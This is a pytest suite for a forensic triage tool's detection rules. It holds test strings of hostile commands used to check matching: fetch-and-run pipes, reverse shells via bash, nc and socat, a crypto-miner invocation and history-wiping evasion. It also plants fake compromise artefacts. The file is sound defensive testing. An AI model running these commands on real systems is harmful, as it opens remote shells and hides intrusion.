"""Rules as data: the engine's tests and combinators, broken rule files refused with a reason, the shipped
command rules against lines they must and must not match, the verdict policy, and a whole run (fake
root → collect → analyze) whose findings and verdict name what was planted."""

from __future__ import annotations

import io
import json
import os
import tarfile
from pathlib import Path

import fakeroot
import pytest
from conftest import run_triagent, summary_of

from agent.analysis import rules as engine

NOW = 1_800_000_000.0


def _rule(**kw) -> dict:
    return {"id": "T-1", "title": "t", "severity": "high", "source": "s", **kw}


def _write(folder: Path, rules: list[dict]) -> str:
    import yaml

    folder.mkdir(exist_ok=True)
    (folder / "r.yaml").write_text(yaml.safe_dump({"rules": rules}))
    return str(folder)


@pytest.mark.parametrize("condition, record, expected", [
    ({"where": {"a": {"eq": 1}}}, {"a": 1}, True),
    ({"where": {"a": {"eq": 1}}}, {"a": 2}, False),
    ({"where": {"a|b": {"eq": 2}}}, {"b": 2}, True),
    ({"where": {"x.y": {"in": [1, 2]}}}, {"x": {"y": 2}}, True),
    ({"where": {"a": {"not_in": [1]}}}, {}, True),
    ({"where": {"a": {"exists": False}}}, {}, True),
    ({"where": {"a": {"regex": "CURL"}}}, {"a": ["curl", "x"]}, True),
    ({"where": {"a": {"gt": 5, "lt": 10}}}, {"a": "7"}, True),
    ({"where": {"a": {"gt": 5}}}, {"a": "seven"}, False),
    ({"where": {"t": {"within_days": 7}}}, {"t": "2027-01-15T08:00:00Z"}, True),  # NOW is 2027-01-15T08:00Z
    ({"where": {"t": {"within_days": 7}}}, {"t": int((NOW - 8 * 86400) * 1e9)}, False),
    ({"where": {"t": {"within_days": 7}}}, {"t": "garbage"}, False),
    ({"any": [{"where": {"a": {"eq": 1}}}, {"where": {"b": {"eq": 1}}}]}, {"b": 1}, True),
    ({"not": {"where": {"a": {"eq": 1}}}}, {"a": 1}, False),
    ({"all": [{"where": {"a": {"eq": 1}}}, {"not": {"where": {"b": {"exists": True}}}}]}, {"a": 1}, True),
])
def test_condition(condition, record, expected):
    assert engine.matches(condition, record, NOW) is expected


@pytest.mark.parametrize("bad, reason", [
    (_rule(where={"a": {"sounds_like": 1}}), "unknown tests"),
    (_rule(where={"a": {"regex": "("}}), "bad regex"),
    (_rule(severity="urgent", where={"a": {"eq": 1}}), "severity"),
    (_rule(), "no condition"),
    ({"id": "T-2", "severity": "low", "where": {}}, "missing"),
    (_rule(where={"a": {"eq": 1}}, maybe={"x": 1}) | {"any": "not a list of mappings"}, "mapping"),
])
def test_broken_rules_are_refused(tmp_path, bad, reason):
    with pytest.raises(engine.RuleError, match=reason):
        engine.load_rules(_write(tmp_path / "rules", [bad]))


def test_duplicate_ids_are_refused(tmp_path):
    rule = _rule(where={"a": {"eq": 1}})
    with pytest.raises(engine.RuleError, match="twice"):
        engine.load_rules(_write(tmp_path / "rules", [rule, rule]))


SHIPPED = {r.id: r for r in engine.load_rules()}
COMMANDS = {
    # from a raw IP, a paste site or into a hidden /tmp file: high (more in test_rules_history.py)
    "TRI-EXEC-001": (["curl -s http://198.51.100.7/x.sh | bash", "wget -qO- http://203.0.113.4:8080/y | sh",
                      "wget -q -O - https://pastebin.com/raw/x | sudo bash", "echo aGVsbG8= | base64 -d | sh",
                      "curl -o /tmp/.x http://h/x && chmod +x /tmp/.x", "sh -c \"$(curl -fsSL http://192.0.2.9/i)\""],
                     ["curl -s https://example.com/api", "wget http://mirror/file.iso", "base64 -d a.txt > b",
                      "cat /etc/passwd | grep bash", "curl -fsSL https://get.docker.com | sh"]),
    # from any other host: medium, it needs a second sign
    "TRI-EXEC-006": (["wget -qO- http://x/y | sh", "wget -q -O - http://x/i.sh | sudo bash",
                      "sh -c \"$(curl -fsSL http://h/i)\""],
                     ["curl -s http://198.51.100.7/x.sh | bash", "curl -fsSL https://get.docker.com | sh"]),
    "TRI-EXEC-002": (["bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "nc -e /bin/sh 192.0.2.1 4444",
                      "socat tcp:192.0.2.1:9 exec:/bin/bash,pty",
                      "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i|nc 1.2.3.4 9",
                      "python3 -c 'import socket,subprocess,os;s=socket.socket()'"],
                     ["nc -zv 10.0.0.1 22", "bash -i", "socat -V", "ls /dev/tcp"]),
    "TRI-EXEC-003": (["./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u x", "/tmp/kdevtmpfsi",
                      "./x --donate-level 1 -o p:3333"],
                     ["make -j4", "python3 mine_data.py", "grep pool /etc/hosts"]),
    "TRI-EVADE-001": (["history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "export HISTSIZE=0",
                       "rm -f ~/.bash_history", "ln -sf /dev/null /root/.bash_history", "set +o history"],
                      ["history | tail", "echo $HISTFILE", "cat ~/.bash_history"]),
}


@pytest.mark.parametrize("rule_id", sorted(COMMANDS))
def test_shipped_command_rules(rule_id):
    rule = SHIPPED[rule_id]
    hits, misses = COMMANDS[rule_id]
    for line in hits:
        assert engine.matches(rule.condition, {"command": line}, NOW), f"{rule_id} misses: {line}"
        assert engine.matches(rule.condition, {"cmdline": line.split()}, NOW), f"{rule_id} misses argv: {line}"
    for line in misses:
        assert not engine.matches(rule.condition, {"command": line}, NOW), f"{rule_id} false positive: {line}"


def test_every_shipped_rule_is_complete():
    assert len(SHIPPED) >= 25
    for rule in SHIPPED.values():
        assert rule.mitre and all(m.startswith("T") for m in rule.mitre), rule.id
        assert rule.severity in engine.SEVERITIES


def _policy() -> dict:
    return engine.load_verdict_policy()


def test_memory_rows_feed_the_rules(tmp_path):
    """Rules that read this analysis's volatility rows (syscall hooks, malfind) see them, with the member
    names and lines of the analysis bundle."""
    from agent.analysis.findings import AnalysisRows

    prefix = "triagent/artifacts/volatility.linux.malware."
    rows = AnalysisRows({
        f"{prefix}check_syscall.Check_syscall.jsonl": (
            json.dumps({"Table Name": "64bit", "Index": 62, "Handler Address": 1, "Handler Symbol": "UNKNOWN"}) + "\n" +
            json.dumps({"Table Name": "64bit", "Index": 0, "Handler Address": 2, "Handler Symbol": "__x64_sys_read"})
        ).encode(),
        f"{prefix}malfind.Malfind.jsonl":
            json.dumps({"PID": 77, "Process": "sshd", "Start": 4096, "Protection": "rwx"}).encode() + b"\n"})
    bundle = tmp_path / "empty.tar"
    with tarfile.open(bundle, "w"):
        pass
    with tarfile.open(bundle) as tar:
        found = list(engine.evaluate([SHIPPED["TRI-KERN-004"], SHIPPED["TRI-PROC-005"]],
                                     engine.bundle_rows(tar, rows, []), NOW))
    assert [(f["rule"], f["evidence"][0]["line"]) for f in found] == [("TRI-KERN-004", 1), ("TRI-PROC-005", 1)]
    assert "syscall 62" in found[0]["summary"] and "pid 77 (sshd)" in found[1]["summary"]
    assert found[1]["evidence"][0]["member"] == f"{prefix}malfind.Malfind.jsonl"


def _analyse(tmp_path: Path, root: Path) -> tuple[dict, list[dict], dict, str]:
    bundle = summary_of(run_triagent(["collect", "--root", str(root), "--profile", "full",
                                      "--output", str(tmp_path / "out")]))["bundle"]
    proc = run_triagent(["analyze", bundle, "--output", str(tmp_path / "analysis")])
    summary = json.loads(proc.stdout.decode().strip().splitlines()[-1])
    with tarfile.open(summary["analysis"]) as tar:
        names = tar.getnames()
        findings = [json.loads(x) for x in tar.extractfile("triagent/artifacts/findings.jsonl").read().splitlines()] \
            if "triagent/artifacts/findings.jsonl" in names else []  # no finding, no member
        verdict = json.loads(tar.extractfile("triagent/verdict.json").read())
    return summary, findings, verdict, bundle


def test_planted_root_gives_findings_and_a_yes(tmp_path):
    root = tmp_path / "root"
    fakeroot.build(root)
    fakeroot.plant_cron(root)
    os.symlink("/dev/null", root / "home/alice/.bash_history")
    (root / "var/log").mkdir(parents=True, exist_ok=True)
    (root / "var/log/auth.log").write_text(
        "Nov 23 10:00:05 fakehost sshd[124]: Accepted publickey for root from 203.0.113.9 port 4243 ssh2: "
        "ED25519 SHA256:bm90IGEgcmVhbCBrZXk\n"
        "Nov 23 10:02:00 fakehost useradd[300]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash\n")
    (root / "etc/cron.d/kworker").write_text("@reboot root /var/tmp/.kw/run.sh\n# xmrig -o stratum+tcp://p:3333\n")
    now = 1_795_000_000
    login = [fakeroot._utmp(7, 100 + i, "pts/0", "alice", "203.0.113.9", now + 60 * i) for i in range(3)]
    (root / "var/log/wtmp").write_bytes(login[0] + b"\0" * len(login[0]) + login[1]  # a wiped record
                                        + fakeroot._utmp(7, 200, "pts/1", "bob", "h", now - 7200) + login[2])
    summary, findings, verdict, bundle = _analyse(tmp_path, root)
    by_rule: dict[str, list[dict]] = {}
    for f in findings:
        by_rule.setdefault(f.get("rule"), []).append(f)
    assert "nc -e /bin/sh 192.0.2.1 4444" in by_rule["TRI-EXEC-002"][0]["summary"]
    assert any("/home/alice/.bash_history" in f["summary"] for f in by_rule["TRI-EVADE-002"])
    assert any("/var/tmp/.sysupdate" in f["summary"] for f in by_rule["TRI-PERSIST-004"])
    assert by_rule["TRI-EXEC-002"][0]["mitre"] and by_rule["TRI-EXEC-002"][0]["severity"] == "critical"
    pointer = by_rule["TRI-EXEC-001"][0]["evidence"][0]
    with tarfile.open(bundle) as tar:
        line = tar.extractfile(pointer["member"]).read().splitlines()[pointer["line"] - 1]
    assert "curl" in json.loads(line)["command"]
    assert verdict["recommendation"] == "yes" and summary["full_disk"] == "yes"
    # a wiped record is high (TRI-EVADE-008); time running backwards only medium (TRI-EVADE-011): NTP and
    # VM snapshots do that too
    tampering = [f["summary"] for f in by_rule["TRI-EVADE-008"]] + [f["summary"] for f in by_rule["TRI-EVADE-011"]]
    assert len(tampering) == 2 and "1 zeroed record(s) between records 0 and 2" in tampering[0], tampering
    assert "record 3 is 7260 s older than record 2" in tampering[1], tampering
    sigma = {f["title"]: f for f in findings if f.get("kind") == "sigma"}
    assert "User account created with UID 0" in sigma and "Remote login as root accepted" in sigma, sorted(sigma)
    assert sigma["User account created with UID 0"]["mitre"] == ["T1136.001"]
    yara = [f for f in findings if f.get("rule") == "yara:triage.crypto_miner_xmrig"]
    assert [f["path"] for f in yara] == ["/etc/cron.d/kworker"], [f["summary"] for f in findings]
    assert any(d["rule"] == "TRI-EXEC-002" for d in verdict["drivers"])


def test_quiet_root_gives_a_no(tmp_path):
    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\n")
    (root / "root").mkdir()
    (root / "root/.bash_history").write_text("ls\napt update\n")
    summary, findings, verdict, _ = _analyse(tmp_path, root)
    assert not [f for f in findings if f["severity"] in ("critical", "high", "medium")], findings
    assert verdict["recommendation"] == "no", verdict


def test_the_manifest_is_read_by_the_reader_entry_by_entry(tmp_path):
    """The rules read the manifest through agent/bundle/reader.py: an entry that is not an object (a hostile
    manifest) is passed over, not an AttributeError that cost every finding of the bundle."""
    from agent.analysis.findings import AnalysisRows

    manifest = {"started_ns": int(NOW * 1e9), "members": [
        "not an entry", {"name": "fs/$rootfs$/etc/cron.d/x", "source": "/etc/cron.d/x", "size": 3}]}
    bundle = tmp_path / "b.tar"
    with tarfile.open(bundle, "w") as tar:
        data = json.dumps(manifest).encode()
        info = tarfile.TarInfo("triagent/manifest.json")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    with tarfile.open(bundle) as tar:
        rows = list(engine.bundle_rows(tar, AnalysisRows(), [])("files"))
        assert engine.collection_time(tar) == NOW
    assert [(r[1], r[3]["source"]) for r in rows] == [("fs/$rootfs$/etc/cron.d/x", "/etc/cron.d/x")]
